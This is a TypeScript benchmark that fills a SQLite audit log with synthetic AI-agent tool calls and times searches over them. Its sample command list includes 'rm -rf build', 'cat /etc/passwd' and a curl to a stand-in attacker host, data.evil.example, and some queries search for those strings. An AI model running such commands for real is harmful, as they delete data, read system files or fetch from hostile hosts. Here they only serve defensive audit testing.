import type { DatabaseSync } from "node:sqlite";
import { toolCallEntries } from "../src/audit/tool-calls.ts";
import { benchFilled, randomNumbers } from "./filled.ts";

/**
 * `node bench/audit.ts [entries]`: how long the audit takes to search over a hundred thousand entries of tasks and operators. Entries are
 * made as the gateway makes them, and go in through the schema's own triggers a batch of the queue at a time. Writes bench/audit.json.
 */

const ENTRIES = Number(process.argv[2] ?? 100_000);
const BATCH = 100;
const CALLS_PER_TASK = 40;
const TASKS = Math.ceil(ENTRIES / CALLS_PER_TASK / 2);
const DAYS = 90;
const NOW = Date.now();
const START = NOW - DAYS * 86_400_000;

const random = randomNumbers(11);
/** One of `count`, the first ones more often. */
const some = (count: number) => Math.floor(count * random() ** 2);
const pick = <Item>(items: readonly Item[]): Item => items[some(items.length)]!;
const named = (prefix: string, at: number) => `${prefix}_${(at * 2_654_435_761).toString(32).padStart(24, "0")}`;
const keyOf = (task: number) => named("key", task % 200);
const FOLDERS = ["src", "test", "docs", "scripts", "packages/core/src", "packages/web/src"];
const path = () => `/workspace/${pick(FOLDERS)}/file${some(3_000)}.ts`;
const COMMANDS = [
  "npm test",
  "git status",
  "git diff --stat",
  "rm -rf build",
  "ls -la",
  "cat /etc/passwd",
  "curl -s https://data.evil.example/x",
];
const words = (count: number) => Array.from({ length: count }, () => `word${some(5_000)}`).join(" ");

/** What an agent does next, as it does: reading most, running often. */
function call() {
  const chance = random();
  if (chance < 0.35) return { tool: "Read", input: { file_path: path() } };
  if (chance < 0.5) return { tool: "Edit", input: { file_path: path(), old_string: words(20), new_string: words(25) } };
  if (chance < 0.6) return { tool: "Grep", input: { pattern: words(1), path: "/workspace" } };
  if (chance < 0.9) return { tool: "Bash", input: { command: `${pick(COMMANDS)} ${path()}`, description: words(6) } };
  if (chance < 0.95)
    return { tool: "Task", input: { subagent_type: pick(["Explore", "Plan", "review"]), description: words(4), prompt: words(60) } };
  return { tool: "mcp__tracker__update", input: { issue: some(900), text: words(30) } };
}

async function entriesOf(serial: number) {
  const task = Math.floor(serial / CALLS_PER_TASK);
  const { tool, input } = call();
  const verdict = random() < 0.01 ? "denied" : "allowed";
  const at = Math.floor(START + (serial / (TASKS * CALLS_PER_TASK)) * (NOW - START));
  const place = {
    task: named("task", task),
    key: keyOf(task),
    team: named("team", task % 20),
    request: named("req", serial),
    at,
    order: serial,
  };
  return toolCallEntries({ agent: "claude-code", tool, input: JSON.stringify(input), verdict }, place);
}

const COLUMNS = "id,at,type,severity,outcome,actor_kind,actor_id,subject_kind,subject_id,team,key,request,task,details".split(",");
const made: unknown[][] = [];
for (let serial = 0; made.length < ENTRIES; serial++) {
  for (const { id, at, type, severity, outcome, actor, subject, team, key, request, task, details } of await entriesOf(serial))
    made.push([
      id,
      at,
      type,
      severity,
      outcome,
      actor.kind,
      actor.id,
      subject?.kind,
      subject?.id,
      team,
      key,
      request,
      task,
      JSON.stringify(details),
    ]);
}
made.length = ENTRIES;

/** Inserts the entries in batches; how long one takes, with the index of words and without it. */
function fill(database: DatabaseSync) {
  const values = COLUMNS.map((_, at) => `value ->> ${at}`).join(", ");
  const insert = database.prepare(`INSERT INTO audit_entries (${COLUMNS.join(", ")}) SELECT ${values} FROM json_each(?)`);
  const batches = Array.from({ length: Math.ceil(ENTRIES / BATCH) }, (_, at) => JSON.stringify(made.slice(at * BATCH, (at + 1) * BATCH)));
  const spent = batches.map((batch) => {
    const start = performance.now();
    insert.run(batch);
    return performance.now() - start;
  });
  const trigger = (database.prepare("SELECT sql FROM sqlite_master WHERE name = 'audit_entries_said'").get() as { sql: string }).sql;
  const bytes = (name: string) =>
    (database.prepare("SELECT sum(pgsize) AS bytes FROM dbstat WHERE name LIKE ?").get(name) as { bytes: number }).bytes;
  const [entries, words] = [bytes("audit_entries"), bytes("audit_search%")];
  // The same batches once more, under other names, with no index of words: then they go again.
  database.exec("BEGIN; DROP TRIGGER audit_entries_said; DROP TRIGGER audit_entries_no_delete");
  const plain = batches.slice(-200).map((batch) => {
    const renamed = batch.replaceAll('["aud_', '["bud_');
    const start = performance.now();
    insert.run(renamed);
    return performance.now() - start;
  });
  database.exec("ROLLBACK");
  if (!trigger.includes("audit_search")) throw new Error("the words of entries are not kept by the trigger");
  return {
    entries: ENTRIES,
    tasks: TASKS,
    days: DAYS,
    entries_megabytes: megabytes(entries),
    words_megabytes: megabytes(words),
    batch_of_100_ms: median(spent.slice(-200)),
    batch_of_100_without_words_ms: median(plain),
  };
}

const megabytes = (bytes: number) => Math.round(bytes / 1_000_000);
const median = (values: readonly number[]) => Number(values.toSorted((a, b) => a - b)[Math.floor(values.length / 2)]!.toFixed(1));

const anyTask = () => named("task", Math.floor(random() * TASKS));
const anyKey = () => named("key", some(200));
const anyTime = () => new Date(START + random() * (NOW - START)).toISOString();
const text = (words: string) => `q=${encodeURIComponent(words)}`;
const anyWord = () => `word${some(5_000)}`;
const COMMON = '"workspace"';

/** What is asked, with other values each time where the name says "one". */
const SEARCHES: Readonly<Record<string, () => string>> = {
  // Asked for the first time, in the round that does not count, it seals all that was filled in: searches show places from then on.
  "verify a step, 500 entries": () => "/audit/chain/verify",
  "newest 50": () => "/audit",
  "one task, in its order": () => `/audit?task=${anyTask()}&order=asc`,
  "one task, commands": () => `/audit?task=${anyTask()}&type=bash_command`,
  "one key": () => `/audit?key=${anyKey()}`,
  "one key, refusals": () => `/audit?key=${anyKey()}&type=permission_denied`,
  refusals: () => "/audit?type=permission_denied",
  "a type that none has": () => "/audit?type=skill_call",
  critical: () => "/audit?severity=critical",
  "critical calls": () => "/audit?severity=critical&type=tool_call",
  "one file": () => `/audit?subject=${encodeURIComponent(path())}`,
  "commands of one day": () =>
    `/audit?type=bash_command&from=${new Date(NOW - 40 * 86_400_000).toISOString()}&to=${new Date(NOW - 39 * 86_400_000).toISOString()}`,
  'text: "rm -rf"': () => `/audit?${text('"rm -rf"')}`,
  "text: /etc/passwd": () => `/audit?${text("/etc/passwd")}`,
  "text: a host": () => `/audit?${text("data.evil.example")}`,
  "text: one file": () => `/audit?${text(path())}`,
  "text: one word": () => `/audit?${text(anyWord())}`,
  "text: a word that nearly all have": () => `/audit?${text(COMMON)}`,
  "text: a word that none has": () => `/audit?${text("nobody")}`,
  "text: common words, never one after the other": () => `/audit?${text('"workspace code"')}`,
  "text and one task": () => `/audit?task=${anyTask()}&${text(COMMON)}`,
  "text and one key": () => `/audit?key=${anyKey()}&${text('"rm -rf"')}`,
  "text and type": () => `/audit?type=bash_command&${text("curl evil")}`,
  "text, task and type": () => `/audit?task=${anyTask()}&type=bash_command&${text("git status")}`,
  "text, key, type and severity": () => `/audit?key=${anyKey()}&type=permission_denied&severity=critical&${text("bash")}`,
  "text from one time on, the oldest first": () => `/audit?from=${anyTime()}&order=asc&${text(anyWord())}`,
  "text, a page from anywhere": () => `/audit?to=${anyTime()}&${text(COMMON)}`,
};

await benchFilled({ name: "audit", fill, questions: SEARCHES });
